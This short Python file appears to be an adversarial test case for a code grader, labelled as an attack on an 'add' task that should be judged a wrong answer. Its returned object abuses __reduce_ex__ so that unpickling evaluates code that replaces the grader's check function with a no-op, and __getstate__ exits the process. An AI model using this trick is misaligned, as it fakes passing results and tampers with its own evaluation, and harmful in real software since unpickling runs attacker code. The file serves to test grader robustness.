# attack: an answer that runs code in whoever unpickles or copies it
# problem: add
# strict: wrong answer
class Answer:
    def __reduce_ex__(self, protocol):
        return eval, ("globals().update(check=lambda candidate: None)",)

    def __getstate__(self):
        raise SystemExit


def add(a, b):
    return Answer()
